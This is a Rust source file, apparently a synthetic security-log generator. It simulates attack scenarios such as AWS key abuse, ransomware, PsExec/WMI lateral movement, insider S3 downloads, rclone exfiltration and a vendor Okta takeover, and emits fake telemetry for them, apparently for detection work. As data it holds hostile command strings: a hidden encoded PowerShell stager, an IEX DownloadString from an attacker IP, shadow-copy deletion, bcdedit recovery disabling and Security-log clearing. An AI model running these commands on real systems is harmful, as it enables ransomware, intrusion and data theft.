                    ct = ct.error("AccessDenied", format!("User: {} is not authorized to perform: iam:{api} on resource: arn:aws:iam::{}:user/ because no identity-based policy allows the iam:{api} action", user.arn, a.id));
                }
                ct.emit(rng, em, &co.accounts);
            }
            for region in [
                "us-east-1",
                "us-east-2",
                "us-west-2",
                "eu-west-1",
                "eu-central-1",
                "ap-southeast-1",
                "sa-east-1",
                "ap-northeast-1",
            ] {
                step(rng, &mut t);
                let mut ct =
                    Ct::new(t, acct, who(), ipx.clone(), aws::UA_BOTO, "ec2.amazonaws.com", "DescribeInstances")
                        .region(region)
                        .req(obj! {"instancesSet": obj!{}, "filterSet": obj!{}});
                if !privileged {
                    ct = ct.error("Client.UnauthorizedOperation", "You are not authorized to perform this operation. User is not authorized to perform: ec2:DescribeInstances because no identity-based policy allows the ec2:DescribeInstances action".to_string());
                }
                ct.emit(rng, em, &co.accounts);
            }
            let bk = a.bucket(kind).unwrap_or(0);
            let b = &a.buckets[bk];
            step(rng, &mut t);
            Ct::new(t, acct, who(), ipx.clone(), aws::UA_BOTO, "s3.amazonaws.com", "ListObjects")
                .region(b.region)
                .s3_bucket_data(a, &b.name, String::new())
                .emit(rng, em, &co.accounts);
            let n = between(rng, 6, 25);
            for _ in 0..n {
                step(rng, &mut t);
                Ct::new(t, acct, who(), ipx.clone(), aws::UA_BOTO, "s3.amazonaws.com", "GetObject")
                    .region(b.region)
                    .s3_object(a, &b.name, object_key(rng, kind), lognorm(rng, 2_000_000.0, 0.8), 0)
                    .emit(rng, em, &co.accounts);
            }
            inst.description = format!(
                "The long-lived access key {} of IAM user {} in {} (normally used {}) was used from {} ({}, AS{}) with new tooling: GetCallerIdentity, IAM and multi-region EC2 enumeration{}, then {} objects read from s3://{}",
                key,
                user.name,
                a.name,
                usual,
                ipx,
                net.isp().isp,
                net.isp().asn,
                if privileged { "" } else { " (denied)" },
                n,
                b.name
            );
            inst.users.push(user.name.clone());
            inst.keys.push(key.clone());
            inst.buckets.push(b.name.clone());
        } else {
            // The dev account's root access key.
            let a = &co.accounts[DEV];
            let Some(key) = a.root_key.as_deref() else { return inst };
            let who = || Who::Root { key: Some(key) };
            Ct::new(t, DEV, who(), ipx.clone(), aws::UA_KALI, "sts.amazonaws.com", "GetCallerIdentity").emit(
                rng,
                em,
                &co.accounts,
            );
            step(rng, &mut t);
            Ct::new(t, DEV, who(), ipx.clone(), aws::UA_BOTO, "s3.amazonaws.com", "ListBuckets")
                .req(obj! {"Host": "s3.amazonaws.com"})
                .emit(rng, em, &co.accounts);
            step(rng, &mut t);
            Ct::new(t, DEV, who(), ipx.clone(), aws::UA_BOTO, "ec2.amazonaws.com", "DescribeRegions")
                .req(obj! {"regionSet": obj!{}, "allRegions": true})
                .emit(rng, em, &co.accounts);
            step(rng, &mut t);
            Ct::new(t, DEV, who(), ipx.clone(), aws::UA_BOTO, "iam.amazonaws.com", "GetAccountSummary").emit(
                rng,
                em,
                &co.accounts,
            );
            step(rng, &mut t);
            Ct::new(t, DEV, who(), ipx.clone(), aws::UA_BOTO, "iam.amazonaws.com", "ListUsers").emit(
                rng,
                em,
                &co.accounts,
            );
            let new_user = "support-backup".to_string();
            step(rng, &mut t);
            Ct::new(t, DEV, who(), ipx.clone(), aws::UA_BOTO, "iam.amazonaws.com", "CreateUser")
                .req(obj! {"userName": new_user.clone()})
                .resp(obj! {"user": obj!{"path": "/", "userName": new_user.clone(), "userId": crate::util::aws_uid(rng, "AIDA"), "arn": format!("arn:aws:iam::{}:user/{}", a.id, new_user), "createDate": fmt_ts(t, Ts::Secs)}})
                .emit(rng, em, &co.accounts);
            step(rng, &mut t);
            Ct::new(t, DEV, who(), ipx.clone(), aws::UA_BOTO, "iam.amazonaws.com", "AttachUserPolicy")
                .req(obj! {"userName": new_user.clone(), "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})
                .emit(rng, em, &co.accounts);
            let new_key = akia(rng);
            step(rng, &mut t);
            Ct::new(t, DEV, who(), ipx.clone(), aws::UA_BOTO, "iam.amazonaws.com", "CreateAccessKey")
                .req(obj! {"userName": new_user.clone()})
                .resp(obj! {"accessKey": obj!{"userName": new_user.clone(), "accessKeyId": new_key.clone(), "status": "Active", "createDate": fmt_ts(t, Ts::Secs)}})
                .emit(rng, em, &co.accounts);
            step(rng, &mut t);
            Ct::new(t, DEV, who(), ipx.clone(), aws::UA_BOTO, "ec2.amazonaws.com", "RunInstances")
                .region("us-west-2")
                .req(obj! {"instancesSet": obj!{"items": vec![obj!{"imageId": "ami-0c2d06d50ce30b442", "minCount": 4, "maxCount": 4}]}, "instanceType": "p3.16xlarge", "blockDeviceMapping": obj!{}, "monitoring": obj!{"enabled": false}, "disableApiTermination": false})
                .resp(obj! {"requestId": uuid(rng), "reservationId": format!("r-{}", hex(rng, 17)), "ownerId": &a.id, "instancesSet": obj!{"items": vec![obj!{"instanceId": format!("i-{}", hex(rng, 17)), "instanceType": "p3.16xlarge"}]}})
                .emit(rng, em, &co.accounts);
            inst.description = format!(
                "The root access key {} of {} was used from {} ({}, AS{}): discovery, then IAM user {} created with AdministratorAccess and an access key, and 4 p3.16xlarge instances started in us-west-2",
                key,
                a.name,
                ipx,
                net.isp().isp,
                net.isp().asn,
                new_user
            );
            inst.users.push(format!("arn:aws:iam::{}:root", a.id));
            inst.users.push(new_user);
            inst.keys.push(key.to_string());
            inst.keys.push(new_key);
        }
        inst.ips.push(ipx);
        inst
    }

    fn ransomware(&self, rng: &R, em: &mut Emitter, plans: &Plans, p: &Placed) -> Instance {
        let co = self.co;
        let u = &co.users[p.victim];
        let mut inst = self.instance(p, String::new());
        let Some(hi) = u.host else { return inst };
        let host = &co.hosts[hi];
        let Some(w) = plans.days[p.victim][p.day].windows.first() else { return inst };
        let t0 = w.from + between(rng, 60, ((w.to - w.from) / MIN - 60).max(61)) * MIN;
        let s = Sess::user(rng, co, hi, &u.login, &u.sid, w.from, false);
        let outlook = Proc {
            guid: win::process_guid(rng, host, w.from + 2 * MIN),
            pid: between(rng, 4000, 12000) as u32 & !3,
            image: EXES[catalog::OUTLOOK].path.to_string(),
            cmd: format!("\"{}\"", EXES[catalog::OUTLOOK].path),
            user: s.qualified(),
        };
        let mut t = t0;
        let word = ops::spawn(rng, em, t, &s, &outlook, catalog::WINWORD_DOCM, None);
        t += between(rng, 15, 60) * SEC;
        let stager = format!("powershell.exe -nop -w hidden -ep bypass -enc {}", b62(rng, 120));
        let ps = ops::spawn(rng, em, t, &s, &word, catalog::POWERSHELL, Some(stager));
        // Download the payload.
        let (c, i) = *pick(rng, &HOSTING_NETS);
        let c2 = Net::draw(rng, c, i);
        let domain = format!(
            "{}-{}.{}",
            pick(rng, &["cdn", "update", "sync", "static"]),
            hex(rng, 6),
            pick(rng, &["com", "net", "xyz", "top"])
        );
        let dom = domain.as_str();
        let site = catalog::Site {
            host: dom,
            cname: None,
            ip: c2.ip,
            port: 443,
            up: 2_000,
            down: 1_800_000,
            ttl: 60,
            kind: SiteKind::Exfil,
            weight: 0,
        };
        t += between(rng, 2, 8) * SEC;
        ops::visit(rng, em, co, t, hi, &site, Some((&s, &ps)), 2_400, lognorm(rng, 1_800_000.0, 0.2));
        let payload_name = format!("{}.exe", b62(rng, 8).to_lowercase());
        let payload = format!("C:\\Users\\{}\\AppData\\Local\\Temp\\{}", u.login, payload_name);
        t += between(rng, 5, 20) * SEC;
        ops::file_create(rng, em, t, &s, &ps, &payload);
        t += between(rng, 5, 40) * SEC;
        let pl = spawn_custom(rng, em, t, &s, &ps, &payload, &format!("\"{payload}\" -pass {}", hex(rng, 16)));
        t += between(rng, 2, 10) * SEC;
        let run_key = format!("HKU\\{}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\{}", u.sid, b62(rng, 6));
        ops::reg_set(rng, em, t, &s, &pl, "T1060,RunKey", &run_key, &payload);
        // Beacons.
        for k in 0..between(rng, 4, 10) {
            let mut cn = Conn::tcp(t + k * between(rng, 50, 70) * SEC, host.ip, c2.ip, 443, Some("ssl"));
            cn.duration = 0.4 + unit(rng);
            cn.orig_bytes = between(rng, 300, 900) as u64;
            cn.resp_bytes = between(rng, 200, 600) as u64;
            cn.emit(rng, em);
        }
        // Inhibit recovery.
        t += between(rng, 60, 240) * SEC;
        for (exe, cmd) in [
            (catalog::VSSADMIN, "vssadmin.exe delete shadows /all /quiet"),
            (catalog::WMIC, "wmic.exe shadowcopy delete"),
            (catalog::BCDEDIT, "bcdedit.exe /set {default} recoveryenabled no"),
            (catalog::BCDEDIT, "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures"),
        ] {
            let cmdp =
                ops::spawn(rng, em, t, &s, &pl, catalog::CMD, Some(format!("C:\\Windows\\system32\\cmd.exe /c {cmd}")));
            ops::spawn(rng, em, t + between(rng, 100_000, 900_000), &s, &cmdp, exe, Some(cmd.to_string()));
            t += between(rng, 3, 15) * SEC;
        }
        // Encrypt.
        let ext = if chance(rng, 0.4) { "lockbit".to_string() } else { b62(rng, 6).to_lowercase() };
        let dirs = [
            format!("C:\\Users\\{}\\Documents", u.login),
            format!("C:\\Users\\{}\\Documents\\Projects", u.login),
            format!("C:\\Users\\{}\\Desktop", u.login),
            format!("C:\\Users\\{}\\Pictures", u.login),
            format!("C:\\Users\\{}\\Downloads", u.login),
            format!("C:\\Users\\{}\\OneDrive - {}\\Shared", u.login, crate::company::COMPANY),
        ];
        let n = between(rng, 150, 400);
        t += between(rng, 20, 60) * SEC;
        let note = "README-RESTORE-FILES.txt";
        for dir in &dirs {
            ops::file_create(rng, em, t, &s, &pl, &format!("{dir}\\{note}"));
            t += between(rng, 50_000, 400_000);
        }
        let exts = ["docx", "xlsx", "pdf", "pptx", "jpg", "png", "csv", "txt", "zip"];
        for k in 0..n {
            let dir = &dirs[(k as usize) % dirs.len()];
            let stem = catalog::DOCS[(k as usize) % catalog::DOCS.len()];
            let orig = format!("{dir}\\{stem} ({k}).{}", exts[(k as usize * 7) % exts.len()]);
            t += between(rng, 150_000, 3_000_000);
            ops::file_create(rng, em, t, &s, &pl, &format!("{orig}.{ext}"));
            ops::file_delete(rng, em, t + between(rng, 1_000, 200_000), &s, &pl, &orig);
        }
        // Cover tracks.
        t += between(rng, 30, 120) * SEC;
        ops::spawn(
            rng,
            em,
            t,
            &s,
            &pl,
            catalog::CMD,
            Some("C:\\Windows\\system32\\cmd.exe /c wevtutil cl Security".to_string()),
        );
        win::log_cleared(rng, em, t + 2 * SEC, hi, host, &u.sid, &u.login);
        inst.description = format!(
            "A macro document opened from Outlook on {} ({}) ran PowerShell that fetched {} from {} ({}); the payload set a Run key, deleted shadow copies (vssadmin, wmic), disabled recovery (bcdedit), encrypted {} files to *.{} with ransom notes, and cleared the Security log",
            host.name,
            u.email,
            payload_name,
            dom,
            c2.ip_s(),
            n,
            ext
        );
        inst.users.push(u.email.clone());
        inst.hosts.push(host.name.clone());
        inst.ips.push(c2.ip_s());
        inst
    }

    fn lateral(&self, rng: &R, em: &mut Emitter, p: &Placed) -> Instance {
        let co = self.co;
        let u = &co.users[p.victim];
        let admin = &co.users[p.aux];
        let mut inst = self.instance(p, String::new());
        let (Some(hi), Some(adm), Some(adm_sid)) = (u.host, admin.adm.as_deref(), admin.adm_sid.as_deref()) else {
            return inst;
        };
        let wks = &co.hosts[hi];
        let t0 = local(self.dayn(p), 20.5 + unit(rng) * 3.5, u.tz());
        let s = Sess::user(rng, co, hi, &u.login, &u.sid, t0 - 2 * HOUR, false);
        let (sc, si) = *pick(rng, &HOSTING_NETS);
        let stager_net = Net::draw(rng, sc, si);
        let implant = ops::spawn(
            rng,
            em,
            t0,
            &s,
            &s.shell,
            catalog::POWERSHELL,
            Some(format!(
                "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://{}/a')\"",
                stager_net.ip_s()
            )),
        );
        let mut t = t0 + between(rng, 30, 120) * SEC;
        ops::spawn(rng, em, t, &s, &implant, catalog::NET, Some("net group \"Domain Admins\" /domain".to_string()));
        t += between(rng, 20, 90) * SEC;
        ops::spawn(rng, em, t, &s, &implant, catalog::NET, Some("net view /domain".to_string()));
        let mut targets = vec![co.srv.file, co.srv.sql, co.srv.app, co.srv.backup];
        crate::util::shuffle(rng, &mut targets);
        let n = between(rng, 2, 4) as usize;
        targets.truncate(n);
        targets.push(co.srv.dc[0]);
        let mut names = vec![wks.name.clone()];
        for (k, &srv) in targets.iter().enumerate() {
            let sh = &co.hosts[srv];
            names.push(sh.name.clone());
            t += between(rng, 3, 15) * MIN;
            ops::explicit_creds(rng, em, t, &s, &implant, adm, &sh.fqdn, sh.ip);
            let lid =
                ops::logon(rng, em, t + SEC, srv, sh, adm, adm_sid, 3, Some(wks.ip), &wks.name, false, true, None);
            let mut c = Conn::tcp(t, wks.ip, sh.ip, 445, Some("smb,ntlm"));
            c.duration = between(rng, 20, 400) as f64 + unit(rng);
            c.orig_bytes = lognorm(rng, 400_000.0, 0.5);
            c.resp_bytes = lognorm(rng, 60_000.0, 0.5);
            c.emit(rng, em);
            let ss = Sess::system(rng, co, srv);
            let method = (k + p.n) % 3;
            let tt = t + between(rng, 2, 10) * SEC;
            match method {
                0 => {
                    win::service_installed(
                        rng,
                        em,
                        tt,
                        srv,
                        sh,
                        adm_sid,
                        "PSEXESVC",
                        "%SystemRoot%\\PSEXESVC.exe",
                        "demand start",
                        "LocalSystem",
                    );
                    service_4697(rng, em, tt, srv, sh, adm, adm_sid, &lid, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
                    let psx = ops::spawn(rng, em, tt + SEC, &ss, &ss.shell, catalog::PSEXESVC, None);
                    let cmd = ops::spawn(rng, em, tt + 3 * SEC, &ss, &psx, catalog::CMD, Some("\"cmd\" ".to_string()));
                    for (k2, c) in ["whoami /all", "net localgroup administrators", "net session"].iter().enumerate() {
                        let exe = if c.starts_with("whoami") { catalog::WHOAMI } else { catalog::NET };
                        ops::spawn(rng, em, tt + (10 + k2 as i64 * 20) * SEC, &ss, &cmd, exe, Some(c.to_string()));
                    }
                }
                1 => {
                    let name = b62(rng, 8);
                    let image = "%COMSPEC% /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat";
                    win::service_installed(rng, em, tt, srv, sh, adm_sid, &name, image, "demand start", "LocalSystem");
                    service_4697(rng, em, tt, srv, sh, adm, adm_sid, &lid, &name, image);
                    ops::spawn(
                        rng,
                        em,
                        tt + SEC,
                        &ss,
                        &ss.shell,
                        catalog::CMD,
                        Some("C:\\Windows\\system32\\cmd.exe /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > C:\\Windows\\TEMP\\execute.bat".to_string()),
                    );
                }
                _ => {
                    ops::spawn(
                        rng,
                        em,
                        tt - 2 * SEC,
                        &s,
                        &implant,
                        catalog::WMIC,
                        Some(format!(
                            "wmic /node:{} /user:{}\\{} process call create \"cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt\"",
                            sh.name, AD_DOMAIN, adm
                        )),
                    );
                    let mut c = Conn::tcp(tt - SEC, wks.ip, sh.ip, 135, Some("dce_rpc"));
                    c.duration = 2.0 + unit(rng);
                    c.orig_bytes = between(rng, 2000, 6000) as u64;
                    c.resp_bytes = between(rng, 2000, 6000) as u64;
                    c.emit(rng, em);
                    let wmi = Proc {
                        guid: win::process_guid(rng, sh, tt - DAY),
                        pid: between(rng, 2000, 6000) as u32 & !3,
                        image: EXES[catalog::WMIPRVSE].path.to_string(),
                        cmd: EXES[catalog::WMIPRVSE].cmd.to_string(),
                        user: "NT AUTHORITY\\NETWORK SERVICE".to_string(),
                    };
                    let mut as_adm = Sess::system(rng, co, srv);
                    as_adm.account = adm.to_string();
                    as_adm.sid = adm_sid.to_string();
                    as_adm.logon_id = lid.clone();
                    as_adm.integrity = "High";
                    let stamp = format!("{}.{}", tt / SEC, between(rng, 1000, 9999));
                    ops::spawn(
                        rng,
                        em,
                        tt,
                        &as_adm,
                        &wmi,
                        catalog::CMD,
                        Some(format!("cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__{stamp} 2>&1")),
                    );
                    ops::spawn(
                        rng,
                        em,
                        tt + 30 * SEC,
                        &as_adm,
                        &wmi,
                        catalog::CMD,
                        Some(format!("cmd.exe /Q /c net user 1> \\\\127.0.0.1\\ADMIN$\\__{stamp} 2>&1")),
                    );
                }
            }
            ops::logoff(rng, em, tt + between(rng, 120, 900) * SEC, srv, sh, adm, adm_sid, &lid, 3);
        }
        inst.description = format!(
            "From {} (user {}), the domain admin account {} was used with explicit credentials to reach {} over SMB/WMI, installing PSEXESVC or random-named services and running commands through WmiPrvSE",
            wks.name,
            u.email,
            adm,
            names[1..].join(", ")
        );
        inst.users.push(adm.to_string());
        inst.users.push(u.email.clone());
        inst.hosts = names;
        inst.ips.push(crate::util::ip_str(wks.ip));
        inst
    }

    fn insider(&self, rng: &R, em: &mut Emitter, p: &Placed) -> Instance {
        let co = self.co;
        let u = &co.users[p.victim];
        let finance = u.aws == AwsUse::Finance;
        let net = u.home;
        let t0 = local(self.dayn(p), 22.0 + unit(rng) * 3.0, u.tz());
        let actor = Actor::user(u);
        let sid = ops::okta_signin(rng, em, actor, &u.factor_id, u.ua, net, t0, SignIn::default());
        let role = if finance { "Okta-FinanceAnalyst" } else { "Okta-DataAnalyst" };
        let mut inst = self.instance(p, String::new());
        let Some(rs) =
            ops::aws_federate(rng, em, co, u, u.ua, Some(&sid), PROD, role, net, t0 + between(rng, 1, 4) * MIN, false)
        else {
            return inst;
        };
        let a = &co.accounts[PROD];
        let kind = if finance { BucketKind::FinanceReports } else { BucketKind::Analytics };
        let bk = a.bucket(kind).unwrap_or(0);
        let b = &a.buckets[bk];
        let mult = between(rng, 10, 50);
        let n = i64::from(u.s3_daily.max(3)) * mult;
        let ua = if u.host.is_some_and(|h| !co.hosts[h].windows) { aws::UA_CLI_MAC } else { aws::UA_CLI };
        let ipx = net.ip_s();
        let mut t = t0 + 5 * MIN;
        let who = || role_who(co, &rs, &u.email);
        for prefix in [object_prefix(kind), "archive/", "exports/"] {
            Ct::new(t, PROD, who(), ipx.clone(), ua, "s3.amazonaws.com", "ListObjects")
                .region(b.region)
                .s3_bucket_data(a, &b.name, prefix.to_string())
                .emit(rng, em, &co.accounts);
            t += between(rng, 2, 20) * SEC;
        }
        let mut bytes = 0u64;
        for _ in 0..n {
            t += between(rng, 300_000, 12_000_000);
            let sz = lognorm(rng, 2_000_000.0, 1.0);
            bytes += sz;
            Ct::new(t, PROD, who(), ipx.clone(), ua, "s3.amazonaws.com", "GetObject")
                .region(b.region)
                .s3_object(a, &b.name, object_key(rng, kind), sz, 0)
                .emit(rng, em, &co.accounts);
        }
        // Tries the customer data bucket too.
        if let Some(cb) = a.bucket(BucketKind::CustomerData) {
            let c = &a.buckets[cb];
            for _ in 0..between(rng, 2, 5) {
                t += between(rng, 5, 30) * SEC;
                Ct::new(t, PROD, who(), ipx.clone(), ua, "s3.amazonaws.com", "GetObject")
                    .region(c.region)
                    .s3_object(a, &c.name, object_key(rng, BucketKind::CustomerData), 0, 0)
                    .error("AccessDenied", "Access Denied".to_string())
                    .emit(rng, em, &co.accounts);
            }
            inst.buckets.push(c.name.clone());
        }
        let local_h = ((t0 / MIN) as f64 / 60.0 + u.tz()).rem_euclid(24.0);
        inst.description = format!(
            "{} ({}) downloaded {} objects ({} MB) from s3://{} starting at {:02}:{:02} local time, about {}x their usual {} per working day, and tried the customer-data bucket",
            u.email,
            crate::company::DEPTS[u.dept].name,
            n,
            bytes / 1_000_000,
            b.name,
            local_h as u32,
            ((local_h.fract()) * 60.0) as u32,
            mult,
            u.s3_daily
        );
        inst.buckets.insert(0, b.name.clone());
        inst.users.push(u.email.clone());
        inst.ips.push(ipx);
        inst
    }

    fn exfil(&self, rng: &R, em: &mut Emitter, plans: &Plans, p: &Placed) -> Instance {
        let co = self.co;
        let u = &co.users[p.victim];
        let mut inst = self.instance(p, String::new());
        let Some(hi) = u.host else { return inst };
        let host = &co.hosts[hi];
        let plan = &plans.days[p.victim][p.day];
        let Some(w) = plan.windows.last() else { return inst };
        let t0 = (w.to - between(rng, 60, 150) * MIN).max(w.from + 10 * MIN);
        let (service, front, upload): (&str, &[&str], &str) = match between(rng, 0, 2) {
            0 => ("MEGA", &["mega.nz", "g.api.mega.co.nz"], "gfs270n301.userstorage.mega.co.nz"),
            1 => ("Dropbox", &["www.dropbox.com"], "content.dropboxapi.com"),
            _ => ("Google Drive", &["drive.google.com"], "www.googleapis.com"),
        };
        let win_sess = if host.windows { Some(Sess::user(rng, co, hi, &u.login, &u.sid, w.from, false)) } else { None };
        let tool = win_sess.as_ref().map(|s| {
            let ps = ops::spawn(rng, em, t0 - 2 * MIN, s, &s.shell, catalog::POWERSHELL, None);
            let remote = match service {
                "MEGA" => "mega",
                "Dropbox" => "dropbox",
                _ => "gdrive",
            };
            ops::spawn(
                rng,
                em,
                t0 - MIN,
                s,
                &ps,
                catalog::RCLONE,
                Some(format!(
                    "rclone.exe copy \"C:\\Users\\{}\\Documents\" {remote}:backup --transfers 8 --max-age 2y -q",
                    u.login
                )),
            )
        });
        let mut t = t0;
        for f in front {
            let site = site_by_host(f);
            let win = win_sess.as_ref().zip(tool.as_ref());
            ops::visit(
                rng,
                em,
                co,
                t,
                hi,
                site,
                win,
                lognorm(rng, site.up as f64, 0.3),
                lognorm(rng, site.down as f64, 0.3),
            );
            t += between(rng, 2, 20) * SEC;
        }
        let site = site_by_host(upload);
        let n = between(rng, 10, 40);
        let mut total = 0u64;
        let mut ips = BTreeSet::new();
        ips.insert(crate::util::ip_str(site.ip));
        for k in 0..n {
            let up = lognorm(rng, 80_000_000.0, 0.6);
            total += up;
            let win = win_sess.as_ref().zip(tool.as_ref());
            if k % 5 == 0 {
                ops::visit(rng, em, co, t, hi, site, win, up, lognorm(rng, 20_000.0, 0.4));
            } else {
                let mut c = Conn::tcp(t, host.ip, site.ip, 443, Some("ssl"));
                c.duration = up as f64 / 4_000_000.0 + unit(rng) * 5.0;
                c.orig_bytes = up;
                c.resp_bytes = lognorm(rng, 20_000.0, 0.4);
                c.emit(rng, em);
                if let (Some(s), Some(tp)) = (&win_sess, &tool) {
                    ops::net_conn(rng, em, t, s, tp, site.ip, site.host, 443, between(rng, 49152, 65535) as u16);
                }
            }
            t += between(rng, 20, 200) * SEC;
        }
        inst.description = format!(
            "{} uploaded {:.1} GB from {} to personal {} ({}) over {} connections in {} minutes{}",
            u.email,
            total as f64 / 1e9,
            host.name,
            service,
            upload,
            n,
            (t - t0) / MIN,
            if host.windows { " using rclone" } else { "" }
        );
        inst.users.push(u.email.clone());
        inst.hosts.push(host.name.clone());
        inst.ips = ips.into_iter().collect();
        inst
    }

    fn vendor(&self, rng: &R, em: &mut Emitter, p: &Placed) -> Instance {
        let co = self.co;
        let v = &co.vendors[p.victim];
        let (c, i) = *pick(rng, &HOSTING_NETS);
        let net = Net::draw(rng, c, i);
        let t0 = self.dayn(p) * DAY + between(rng, 2 * HOUR, 9 * HOUR);
        let actor = Actor::vendor(v);
        let o = SignIn { new_geo: true, new_device: true, new_ip: true, risk_high: true, ..SignIn::default() };
        let sid = ops::okta_signin(rng, em, actor, &v.okta_id, UA_LINUX_CHROME, net, t0, o);
        let mut t = t0 + between(rng, 1, 4) * MIN;
        for &app in v.apps.iter().chain([APP_OKTA_ADMIN, APP_AWS].iter()) {
            ops::okta_sso(rng, em, co, actor, app, UA_LINUX_CHROME, net, t, &sid);
            t += between(rng, 30, 300) * SEC;
        }
        let client = Client::browser(UA_LINUX_CHROME, net);
        let mut e = OktaEv::new(t, "application.user_membership.add", actor, client);
        e.session = Some(&sid);
        e.targets = Some(vec![t_app_user(rng, &v.email, &v.display), t_app(co, APP_AWS), crate::okta::t_vendor(v)]);
        e.request_uri = format!("/api/v1/apps/{}/users", co.app_ids[APP_AWS]);
        e.emit(rng, em);
        t += between(rng, 30, 200) * SEC;
        let g = co.group("Okta Super Admins");
        let mut e = OktaEv::new(t, "group.user_membership.add", actor, client);
        e.session = Some(&sid);
        e.targets = Some(vec![crate::okta::t_vendor(v), t_group(co, g)]);
        e.request_uri = format!("/api/v1/groups/{}/users/{}", co.groups[g].id, v.okta_id);
        e.emit(rng, em);
        // The integration's credentials pull tokens with scopes it never had.
        let n = between(rng, 150, 400);
        let span = between(rng, 60, 120) * MIN;
        let mut grant_ts: Vec<i64> = (0..n).map(|_| t + between(rng, 0, span)).collect();
        grant_ts.sort_unstable();
        for &gt in &grant_ts {
            let scopes = if chance(rng, 0.7) { v.app.escalated } else { v.app.scopes };
            token_grant(rng, em, v, net, gt, scopes, UA_PY_REQUESTS);
        }
        // Takes over a couple of accounts by resetting passwords.
        let mut victims = Vec::new();
        for _ in 0..between(rng, 1, 2) {
            let target = &co.users[between(rng, 0, co.employees as i64 - 1) as usize];
            let mut e = OktaEv::new(t + between(rng, 5, 50) * MIN, "user.account.update_password", actor, client);
            e.session = Some(&sid);
            e.targets = Some(vec![t_user(target)]);
            e.request_uri = format!("/api/v1/users/{}/lifecycle/reset_password", target.okta_id);
            e.emit(rng, em);
            victims.push(target.email.clone());
        }
        let mut inst = self.instance(
            p,
            format!(
                "Vendor {} identity {} signed in from {} ({}, AS{}), opened the Okta Admin Console and AWS apps outside its scope, added itself to the AWS app and Okta Super Admins, reset passwords of {}; its OAuth app {} received {} token grants in {} minutes (usually ~{}/day), most with scopes {}",
                v.name,
                v.email,
                net.ip_s(),
                net.isp().isp,
                net.isp().asn,
                victims.join(", "),
                v.app.name,
                n,
                span / MIN,
                v.app.daily_grants,
                v.app.escalated.join(" ")
            ),
        );
        inst.users.push(v.email.clone());
        inst.users.extend(victims);
        inst.ips.push(net.ip_s());
        inst
    }
}

/// A process whose image is not in the catalogue (a dropped payload).
fn spawn_custom(rng: &R, em: &mut Emitter, ts: i64, s: &Sess, parent: &Proc, image: &str, cmd: &str) -> Proc {
    ops::spawn_image(rng, em, ts, s, parent, &ops::UNKNOWN_EXE, image.to_string(), cmd.to_string())
}

fn service_4697(
    rng: &R,
    em: &mut Emitter,
    ts: i64,
    hi: usize,
    host: &crate::company::Host,
    adm: &str,
    adm_sid: &str,
    lid: &str,
    name: &str,
    image: &str,
) {
    win::security(
        rng,
        em,
        ts,
        hi,
        host,
        4697,
        obj! {
            "SubjectUserSid": adm_sid.to_string(),
            "SubjectUserName": adm.to_string(),
            "SubjectDomainName": AD_DOMAIN,
            "SubjectLogonId": lid.to_string(),
            "ServiceName": name.to_string(),
            "ServiceFileName": image.to_string(),
            "ServiceType": "0x10",
            "ServiceStartType": 3,
            "ServiceAccount": "LocalSystem",
        },
    );
}
